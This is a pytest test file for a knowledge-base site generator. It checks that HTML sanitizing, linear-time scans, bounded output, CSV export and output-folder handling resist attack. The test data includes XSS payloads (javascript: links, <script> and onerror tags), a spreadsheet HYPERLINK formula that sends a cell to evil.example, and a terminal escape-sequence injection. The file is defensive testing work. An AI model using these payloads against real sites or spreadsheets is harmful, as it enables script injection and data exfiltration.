"""Issue 20's attacks on what the build writes: sanitized HTML, linear scans,
bounded output, CSV formulas, output folders and the site swap.

Each test looks at what a user gets: the diagnostics and exit code of the
CLI, the HTML of a page, a data file, the folders left on disk.
"""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import KB_FIXTURE, ROOT, run_cli
from kb import markup
from kb.text import bracket_problem

sys.path.insert(0, str(ROOT / "bench"))
from pathological import scan  # noqa: E402  (the benchmark's list of the check's scans)

ACTOR = "id: {id}\nname: {name}\nactor_type: person\ndescription: {description}\n"


# -- the sanitizer's invariant --------------------------------------------------------

class Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict]]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def invariant_broken(html: str) -> list[str]:
    """What in sanitized entry HTML is outside the allow-list."""
    broken = []
    for tag, attrs in elements(html):
        if tag not in markup.TAGS:
            broken.append(f"<{tag}>")
        for name, value in attrs.items():
            allowed = markup.ATTRIBUTES.get(tag, set()) | {"rel"} | ({"class"} if tag in markup.CLASSES else set())
            if name not in allowed:
                broken.append(f"<{tag} {name}>")
            if name == "href":
                squeezed = re.sub(r"[\x00-\x20]", "", value or "").lower()
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", squeezed)
                if scheme and scheme.group(1) not in markup.URL_SCHEMES:
                    broken.append(f"href={value[:40]}")
                if squeezed.startswith(("//", "\\\\", "/\\", "\\/")):
                    broken.append(f"href to another host: {value[:40]}")
    return broken


ATTACK_LINES = [
    "[x]: javascript:alert(1)", "[y]: //evil.example/x", "[z]: data:text/html,x", "[w]: https://ok.example/",
    "![p](https://evil.example/p.png)", "![q][x]", "[a](javascript:alert(1))", "[b](java&#115;cript:alert(1))",
    "[c](&#x6A;avascript:alert(1))", "[d](JAVASCRIPT:alert(1))", "[e](//evil.example)", "[f](mailto:a@b.example)",
    "<https://evil.example/>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "&amp;",
    "**bold** _em_ `code`", "{: onclick=alert(1) }", "[x] [y] [z] [w]", "[@report-a]", "| a | b |\n|---|---|\n| 1 | 2 |",
]
CONTAINERS = ["{}", "> {}", "- {}", "1. {}", "!!! note\n    {}", "    {}", "* > {}", "> > - {}"]
ENDINGS = ["\n", "\r", "\r\n", "\n\n"]


@st.composite
def markdown_documents(draw):
    parts = draw(st.lists(st.tuples(st.sampled_from(CONTAINERS), st.sampled_from(ATTACK_LINES),
                                    st.sampled_from(ENDINGS)), min_size=1, max_size=8))
    return "".join(container.format(line) + ending for container, line, ending in parts)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(markdown_documents())
def test_sanitized_html_holds_only_allowed_elements_attributes_and_urls(document):
    # With the page's own escaping of '<' and without it: the sanitizer alone must suffice.
    for text in (markup.prepare(document), document):
        html = markup.to_html(text)
        assert invariant_broken(html) == [], (document, html)
        assert "<img" not in html and "evil.example" not in "".join(
            str(a.get("href", "")) for _t, a in elements(html) if a.get("href", "").startswith("//"))


def test_the_invariant_check_can_fail():
    assert invariant_broken('<a href="javascript:alert(1)" onclick="x">x</a><img src="//evil.example/p">') == [
        "href=javascript:alert(1)", "<a onclick>", "<img>", "<img src>"]


# -- linear scans ------------------------------------------------------------------------

PATHOLOGICAL = {
    "reference-definition": " x]:\n" + " [\n" * 330_000,
    "citations": "[@a, " * 200_000,
    "citation-ids": "[@" * 500_000,
    "tags": "< " * 500_000 + "<" + " " * 100_000,
    "links": "](" + "[" * 1_000_000,
    "parens": "[a](" * 250_000,
}


def test_every_scan_of_a_one_megabyte_text_is_quick():
    for name, text in PATHOLOGICAL.items():
        assert scan(text) < 10, name  # every scan the check makes, as the benchmark times them


def test_check_refuses_the_pathological_file_quickly(tmp_path):
    root = tmp_path / "kb"
    shutil.copytree(KB_FIXTURE, root)
    body = "".join(f"  {line}\n" for line in (" x]:\n" + " [\n" * 195_000).splitlines())
    (root / "entries/actors/slow.yaml").write_text(ACTOR.format(id="slow", name="Slow", description="|\n" + body))
    start = time.perf_counter()
    result = run_cli("check", root=root)
    assert time.perf_counter() - start < 60
    assert result.stdout.splitlines()[0] == \
        "entries/actors/slow.yaml:4: E110 'description' is 390,004 characters long; at most 5,000 are allowed"


def test_the_longest_allowed_text_of_unclosed_brackets_renders_quickly():
    text = "[" * 20 + " [x] " * 1_990
    assert bracket_problem(text) is None and len(text) <= 10_000
    start = time.perf_counter()
    markup.to_html(markup.prepare(text))
    assert time.perf_counter() - start < 10


# -- bounded output ------------------------------------------------------------------------

def test_a_thousand_narrative_cycle_is_reported_once(tmp_path):
    root = tmp_path / "kb"
    shutil.copytree(KB_FIXTURE, root)
    for i in range(1000):
        (root / f"entries/narratives/ring-{i:04d}.yaml").write_text(
            f"id: ring-{i:04d}\ntitle: Ring {i}\nsummary: One of many.\nparent: ring-{(i + 1) % 1000:04d}\n"
            "explainer: Round [@report-a].\nsources: [report-a]\n")
    result = run_cli("check", root=root)
    lines = result.stdout.splitlines()
    assert result.returncode == 1 and len(lines) == 1001
    assert lines[0].startswith("entries/narratives/ring-0000.yaml:4: E203 parent narratives form a cycle: ring-0000 -> ring-0001")
    assert lines[0].endswith("ring-0999 -> ring-0000")
    assert lines[1] == ("entries/narratives/ring-0001.yaml:4: E203 parent narratives form a cycle with 'ring-0000' "
                        "(listed at entries/narratives/ring-0000.yaml)")
    assert len(result.stdout) < 200_000


def test_a_huge_name_is_refused_before_it_reaches_fifty_pages(tmp_path):
    root = tmp_path / "kb"
    shutil.copytree(KB_FIXTURE, root)
    (root / "entries/actors/huge.yaml").write_text(ACTOR.format(id="huge", name="x" * 990_000, description="Big."))
    result = run_cli("check", root=root)
    assert result.stdout.splitlines()[0] == \
        "entries/actors/huge.yaml:2: E110 'name' is 990,000 characters long; at most 200 are allowed"


def test_three_hundred_nested_narratives_are_refused_without_a_traceback(tmp_path):
    root = tmp_path / "kb"
    shutil.copytree(KB_FIXTURE, root)
    for i in range(300):
        parent = f"parent: deep-{i - 1}\n" if i else ""
        (root / f"entries/narratives/deep-{i}.yaml").write_text(
            f"id: deep-{i}\ntitle: Deep {i}\nsummary: Level {i}.\n{parent}explainer: Deeper [@report-a].\nsources: [report-a]\n")
    result = run_cli("build", "--out", str(tmp_path / "pages"), root=root)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "entries/narratives/deep-9.yaml:4: E206 narrative nested more than 8 levels below a top-level one; " \
           "attach it to a broader narrative" in result.stdout.splitlines()


# -- escaped diagnostics -----------------------------------------------------------------

def test_a_diagnostic_never_prints_an_escape_sequence(tmp_path):
    root = tmp_path / "kb"
    shutil.copytree(KB_FIXTURE, root)
    (root / "entries/actors/fake.yaml").write_text(
        'id: fake\nname: Fake\nactor_type: person\ndescription: Somebody.\n"\\e[2K\\rno problems": 1\n')
    result = run_cli("check", root=root)
    assert "\x1b" not in result.stdout and "\r" not in result.stdout
    assert "entries/actors/fake.yaml:5: E100 unknown field '\\x1b[2K\\x0dno problems' in actor" in result.stdout


# -- CSV formulas ----------------------------------------------------------------------------

def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(tmp_path):
    root = tmp_path / "kb"
    shutil.copytree(KB_FIXTURE, root)
    name = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    (root / "entries/actors/formula.yaml").write_text(
        f"id: formula\nname: '{name}'\nactor_type: person\naliases: ['+1', '-2', '@SUM(A1)']\ndescription: Somebody.\n")
    out = tmp_path / "out"
    result = run_cli("export", "--out", str(out), root=root)
    assert result.returncode == 0, result.stdout
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO((out / "data/actors.csv").read_text(encoding="utf-8")))}
    assert rows["formula"]["name"] == "'" + name
    assert rows["formula"]["aliases"] == '["+1", "-2", "@SUM(A1)"]'  # JSON in a cell starts with '['
    document = json.loads((out / "data/kb.json").read_text(encoding="utf-8"))
    names = [e["fields"]["name"] for e in document["entries"] if e["id"] == "formula"] if "entries" in document else \
        [json.dumps(document).count(json.dumps(name)[1:-1])]
    assert names in ([name], [1])


# -- output folders and the site swap ---------------------------------------------------------

def test_build_out_refuses_a_folder_with_files_it_did_not_write(tmp_path):
    root = tmp_path / "kb"
    shutil.copytree(KB_FIXTURE, root)
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "index.md").write_text("# Hand-written\n")
    result = run_cli("build", "--out", str(docs), root=root)
    assert result.returncode == 1
    assert result.stdout.splitlines()[-1] == (f"{docs}: holds files build did not write (index.md); "
                                               "nothing written or removed; choose an empty or new folder")
    assert [p.name for p in docs.iterdir()] == ["index.md"]


def test_build_out_removes_only_the_pages_it_wrote(tmp_path):
    root = tmp_path / "kb"
    shutil.copytree(KB_FIXTURE, root)
    out = tmp_path / "pages"
    assert run_cli("build", "--out", str(out), root=root).returncode == 0
    (root / "entries/debunks/claim-false.yaml").unlink()
    result = run_cli("build", "--out", str(out), root=root)
    assert result.returncode == 0, result.stdout
    assert not (out / "debunks/claim-false.md").exists() and (out / "actors/actor-one.md").exists()
    (out / "notes.md").write_text("mine")
    assert run_cli("build", "--out", str(out), root=root).returncode == 1
    assert (out / "notes.md").read_text() == "mine"


def swap(*args) -> subprocess.CompletedProcess:
    return run_cli("swap", *map(str, args))


def test_a_swap_leaves_a_complete_site_and_recovers_an_interrupted_one(tmp_path):
    site, new = tmp_path / "site", tmp_path / "site.new"
    site.mkdir()
    (site / "index.html").write_text("old")
    new.mkdir()
    (new / "index.html").write_text("new")
    assert swap(site, new).returncode == 0
    assert (site / "index.html").read_text() == "new" and sorted(p.name for p in tmp_path.iterdir()) == ["site"]
    # Interrupted between two renames: only site.old is left; the next build puts it back first.
    site.rename(tmp_path / "site.old")
    assert swap(site).returncode == 0
    assert (site / "index.html").read_text() == "new" and sorted(p.name for p in tmp_path.iterdir()) == ["site"]


def test_the_makefile_never_deletes_the_site_before_the_new_one_is_built():
    recipe = (ROOT / "Makefile").read_text(encoding="utf-8").split("\nbuild:", 1)[1].split("\n\n", 1)[0]
    assert "rm -rf \"$(abspath $(SITE))\"" not in recipe and ".old" not in recipe


def test_contributing_states_the_schemas_limits():
    from kb.schema import load_schema
    from kb.validate import MAX_NARRATIVE_DEPTH

    schema = load_schema()
    section = (ROOT / "CONTRIBUTING.md").read_text(encoding="utf-8").split("## Limits", 1)[1].split("\n## ", 1)[0]
    stated = {int(n.replace(",", "")) for n in re.findall(r"\| ([\d,]+)(?: characters)? \|", section)}

    def walk(fields):
        for field in fields:
            if field is not None:
                yield field
                yield from walk((field.items, *field.fields))
    lengths = {f.max_length for kind in schema.kinds.values() for f in walk(kind.fields)
               if f.type in ("str", "text", "url") and f.max_length}
    assert stated == lengths | {schema.max_references, MAX_NARRATIVE_DEPTH}
